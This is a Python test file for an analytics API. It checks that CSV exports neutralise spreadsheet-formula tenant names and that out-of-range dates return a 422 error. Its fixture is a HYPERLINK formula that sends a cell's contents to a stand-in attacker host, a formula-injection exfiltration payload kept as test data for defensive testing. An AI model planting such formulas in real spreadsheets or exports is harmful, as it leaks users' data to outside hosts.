"""A commune name typed as a spreadsheet formula stays text in every CSV export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import httpx
from analytics.bootstrap import AnalyticsRuntime
from motcua_testkit.analytics import Scenario

from .conftest import A, events_of, project

MARCH = {"from": "2026-03-01", "to": "2026-03-20"}
FORMULA = '=HYPERLINK("http://tan-cong.example/?x="&A1,"Bấm vào đây")'


async def test_formula_names_are_neutralised_in_csv(
    projected: AnalyticsRuntime, client: httpx.AsyncClient
) -> None:
    renamed = Scenario()
    renamed.tenant(A, FORMULA, cohorts=("pilot",), revision=2, at=datetime(2026, 3, 1, tzinfo=UTC))
    await project(projected, events_of(renamed.envelopes))
    for params in ({"format": "csv"}, {"kind": "ranking"}):
        path = "/api/v1/ranking" if "format" in params else "/api/v1/export.csv"
        answer = await client.get(path, params={**MARCH, **params})
        assert answer.status_code == 200
        rows = list(csv.reader(io.StringIO(answer.text.lstrip("\ufeff"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + FORMULA in cells, rows
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


async def test_far_dates_are_a_422_not_an_overflow(client: httpx.AsyncClient) -> None:
    for path, param in (
        ("/api/v1/indicators", "to"),
        ("/api/v1/indicators/timeseries", "from"),
        ("/api/v1/indicators/received", "date_to"),
    ):
        answer = await client.get(path, params={param: "9999-12-31"})
        assert answer.status_code == 422, (path, answer.text)
        error = answer.json()["errors"][0]
        assert error["code"] == "validation.date_out_of_range"  # the platform's codes
        assert error["message"].startswith("Ngày phải nằm trong khoảng")
